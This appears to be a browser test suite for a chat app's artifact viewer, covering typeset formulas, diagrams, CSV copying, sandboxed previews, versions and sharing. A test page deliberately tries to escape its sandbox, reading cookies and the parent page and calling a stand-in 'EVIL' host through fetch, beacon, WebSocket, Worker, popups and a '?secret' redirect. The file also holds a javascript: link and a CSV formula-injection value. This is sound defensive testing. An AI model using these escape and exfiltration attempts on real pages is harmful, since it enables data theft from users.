/** Formulas, diagrams, and what a model wrote that runs: drawn when asked for, in a frame that reaches nothing. */

import type { AddressInfo } from 'node:net';
import { createServer } from 'node:net';
import t, { type Test } from 'tap';
import { startServer } from '../server.ts';
import { openAccount, openBrowser, openPage, register, whyNoBrowser } from './browser.ts';

t.setTimeout(120_000);

const CONVERSATIONS = '/api/v1/edge/conversations';

/** Tries every way out that a script has, and says on the page what it could do. */
const escaping = (EVIL: string): string => `<!doctype html><title>Clock</title><h1>Tick</h1><p id="found">nothing</p>
<img src="${EVIL}/pixel.png"><link rel="stylesheet" href="${EVIL}/x.css"><link rel="prefetch" href="${EVIL}/prefetch">
<iframe src="${EVIL}/frame"></iframe><form action="${EVIL}/form"><button id="send">send</button></form>
<script>
const found = [];
const attempt = (name, run) => { try { const value = run(); if (value) found.push(name); } catch {} };
attempt('cookie', () => document.cookie);
attempt('storage', () => localStorage.length >= 0);
attempt('parent', () => parent.document.title);
attempt('top', () => { top.location = '${EVIL}/top'; return false; });
attempt('popup', () => open('${EVIL}/popup'));
attempt('beacon', () => navigator.sendBeacon('${EVIL}/beacon', 'x') && false);
fetch('${EVIL}/fetch').then(() => found.push('fetch'), () => {});
fetch('/api/v1/auth/whoami').then(() => found.push('api'), () => {});
try { new WebSocket('${EVIL.replace('http', 'ws')}/socket'); } catch {}
try { new EventSource('${EVIL}/events'); } catch {}
attempt('webrtc', () => typeof RTCPeerConnection !== 'undefined');
try { new Worker('${EVIL}/worker.js'); } catch {}
document.getElementById('send').click();
setTimeout(() => { document.getElementById('found').textContent = found.join() || 'nothing at all'; }, 300);
setTimeout(() => { location = '${EVIL}/leave?secret'; }, 900);
</script>`;

const answersFor = (evil: string): string[] => [
  String.raw`The sum is $\frac{n(n+1)}{2}$, and it costs $5 or $6.

$$\int_0^1 x^2\,dx = \frac13$$

\[ e^{i\pi} + 1 = 0 \]

Broken: $\frac{1$ and unsafe: $\href{javascript:alert(1)}{x}$.

| a | b |
| --- | --- |
| 1 | =cmd() |`,
  '```mermaid\ngraph TD; A[Start] --> B[End];\n```\n\n```mermaid\nnot a diagram at all\n```',
  `\`\`\`html\n${escaping(evil)}\n\`\`\``,
  '```html\n<!doctype html><title>Clock</title><h1>Tock</h1>\n```',
  '```svg\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><circle cx="4" cy="4" r="3"/></svg>\n```',
  '```js\nconsole.log("six times seven is", 6 * 7);\n```',
];

t.test('what answers show', { skip: whyNoBrowser() }, async (t) => {
  const server = await startServer(t);
  const browser = await openBrowser(t);
  const { page, context, faults } = await openPage(browser, server.url, { permissions: ['clipboard-read', 'clipboard-write'] });
  const panel = page.getByRole('complementary', { name: /Artifact/ });
  const sandbox = page.frameLocator('iframe.sandbox');
  const clipboard = (): Promise<string> => page.evaluate(() => navigator.clipboard.readText());
  const visitors: string[] = [];
  const evil = await openEvil(t, visitors);
  await register(page);
  await page.request.post(CONVERSATIONS, { data: { id: 'c', title: 'Drawn' } });
  for (const [index, content] of answersFor(evil).entries())
    for (const role of ['user', 'assistant'])
      await page.request.post(`${CONVERSATIONS}/messages`, {
        data: { conversation_id: 'c', role, content: role === 'user' ? `Question ${index}` : content },
      });
  await page.goto('/chat#c=c');
  await page.reload();

  await t.test('formulas are typeset, prices and what cannot be read stay as they are', async (t) => {
    const prose = page.locator('.answer .prose').first();
    await prose.locator('.formula.display .katex').nth(1).waitFor();
    t.equal(await prose.locator('.formula').count(), 4);
    t.match(await prose.textContent(), /costs \$5 or \$6/);
    t.strictSame(await prose.locator('code.math').allTextContents(), ['\\frac{1']);
    t.equal(await prose.locator('a').count(), 0);
    t.ok(await prose.locator('.formula math').first().count(), 'screen readers get MathML');
  });

  await t.test('a table is copied as CSV', async (t) => {
    await page.getByRole('button', { name: 'Copy as CSV' }).click();
    t.equal(await clipboard(), "a,b\r\n1,'=cmd()");
  });

  await t.test(
    'nothing is drawn before it is asked for; a diagram is drawn in the sandbox, and a broken one says so',
    async (t) => {
      t.equal(await page.locator('iframe').count(), 0);
      const draw = page.getByRole('button', { name: 'Draw', exact: true });
      await draw.first().click();
      await sandbox.locator('svg').waitFor();
      await sandbox.getByText('Start', { exact: true }).waitFor();
      await draw.nth(1).click();
      await sandbox.locator('pre').waitFor();
      t.match(await sandbox.locator('pre').textContent(), /No diagram type|UnknownDiagram|not a diagram/);
      await panel.getByRole('button', { name: 'Close' }).click();
      t.equal(await page.locator('iframe').count(), 0);
    },
  );

  await t.test('a page of a model runs, and reaches nothing', async (t) => {
    await page.getByRole('button', { name: 'Preview' }).first().click();
    await sandbox.getByRole('heading', { name: 'Tick' }).waitFor();
    await sandbox.getByText('nothing at all').waitFor();
    // It tries to leave, too.
    await page.waitForTimeout(1200);
    t.equal(context.pages().length, 1);
    t.match(page.url(), /\/chat#c=c$/);
    t.strictSame(visitors, [], 'nobody heard of it');
    // The browser tells of each way out that the policy closed.
    faults.length = 0;
  });

  await t.test('its versions are the blocks of the same title; they are shown as code, kept and shared', async (t) => {
    await panel.getByRole('button', { name: 'Next version' }).click();
    await sandbox.getByRole('heading', { name: 'Tock' }).waitFor();
    await panel.getByText('Version 2 of 2').waitFor();
    await panel.getByRole('tab', { name: 'Code' }).click();
    await panel.locator('.code-block').waitFor();
    await panel.getByRole('button', { name: 'Keep' }).click();
    await page.getByText('Kept among your artifacts').waitFor();
    const requests: string[] = [];
    page.on('request', (request) => requests.push(`${request.method()} ${new URL(request.url()).pathname}`));
    await panel.getByRole('button', { name: 'Share' }).click();
    const links = page.getByRole('dialog', { name: 'Share' });
    await links.getByRole('button', { name: 'Make a link' }).click();
    await links.getByText(/^Version 2 · /).waitFor();
    t.equal(
      requests.filter((each) => each.startsWith('GET /api/v1/artifacts/')).length,
      5,
      'each version once, and thrice which there are',
    );
    await links.getByRole('button', { name: 'Stop sharing' }).click();
    await links.locator('code').waitFor({ state: 'detached' });
    await links.getByRole('button', { name: 'Make a link' }).click();
    await links.getByRole('button', { name: 'Copy link' }).click();
    const address = await links.locator('code').textContent();
    await page.waitForFunction(async (text) => (await navigator.clipboard.readText()) === text, address);
    await page.keyboard.press('Escape');
    await links.waitFor({ state: 'detached' });
    await panel.waitFor();
    const { data } = await (await page.request.get('/api/v1/artifacts')).json();
    t.match(data, [{ title: 'Clock', kind: 'html', conversation_id: 'c', last_version: 2 }]);
  });

  await t.test('a drawing and a program run in the sandbox', async (t) => {
    await page.getByRole('button', { name: 'Preview' }).nth(2).click();
    await sandbox.locator('svg circle').waitFor();
    await page.getByRole('button', { name: 'Preview' }).nth(3).click();
    await sandbox.getByText('six times seven is 42').waitFor();
    await page.keyboard.press('Escape');
    t.equal(await page.locator('iframe').count(), 0);
  });

  await t.test('kept artifacts are listed, opened and deleted; a shared one opens for others of the tenant', async (t) => {
    const address = await clipboard();
    t.match(address, /\/chat#a=[\w-]{24}$/);
    const reader = await openAccount(page, browser, server.url, { username: 'vera', role: 'viewer' });
    await reader.page.goto(address);
    await reader.page.frameLocator('iframe.sandbox').getByRole('heading', { name: 'Tock' }).waitFor();
    t.equal(await reader.page.getByRole('button', { name: 'Keep' }).count(), 0, 'it is not theirs');
    t.strictSame(reader.faults, []);
    await reader.context.close();
    await page.getByRole('button', { name: 'ada' }).click();
    await page.getByRole('menuitem', { name: 'Artifacts' }).click();
    const dialog = page.getByRole('dialog', { name: 'Artifacts' });
    await dialog.getByText('Versions: 2').waitFor();
    await page.keyboard.press('Escape');
  });

  await t.test('a link of a kept document is not followed before the reader has seen where it leads', async (t) => {
    const content = `Read [this](${evil}/document).`;
    await page.request.post('/api/v1/artifacts', { data: { title: 'Notes', kind: 'markdown', content } });
    await page.getByRole('button', { name: 'ada' }).click();
    await page.getByRole('menuitem', { name: 'Artifacts' }).click();
    await page.getByRole('dialog', { name: 'Artifacts' }).getByRole('button', { name: 'Notes', exact: true }).click();
    const link = panel.getByRole('link', { name: 'this' });
    for (const button of ['left', 'middle'] as const) {
      await link.click({ button });
      await page
        .getByRole('dialog', { name: /^Open 127/ })
        .getByText(`${evil}/document`)
        .waitFor();
      await page.keyboard.press('Escape');
    }
    t.equal(context.pages().length, 1);
    t.strictSame(visitors, []);
    await page.getByRole('button', { name: 'ada' }).click();
    await page.getByRole('menuitem', { name: 'Artifacts' }).click();
    const dialog = page.getByRole('dialog', { name: 'Artifacts' });
    await dialog.getByRole('button', { name: 'Delete Notes' }).click();
    await page.getByRole('dialog', { name: 'Delete' }).getByRole('button', { name: 'Delete' }).click();
    await dialog.getByRole('button', { name: 'Delete Notes' }).waitFor({ state: 'detached' });
    await dialog.getByRole('button', { name: 'Delete Clock' }).click();
    await page.getByRole('dialog', { name: 'Delete' }).getByRole('button', { name: 'Delete' }).click();
    await dialog.getByText('No artifacts yet').waitFor();
    await page.keyboard.press('Escape');
  });

  t.strictSame(faults, [], 'nothing went wrong in the page, and nothing left the server');
});

/** A host that nothing may reach: it notes every connection. */
async function openEvil(t: Test, visitors: string[]): Promise<string> {
  const server = createServer((socket) => {
    socket.on('data', (data) => visitors.push(data.toString().slice(0, 60)));
    socket.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.teardown(() => server.close());
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}
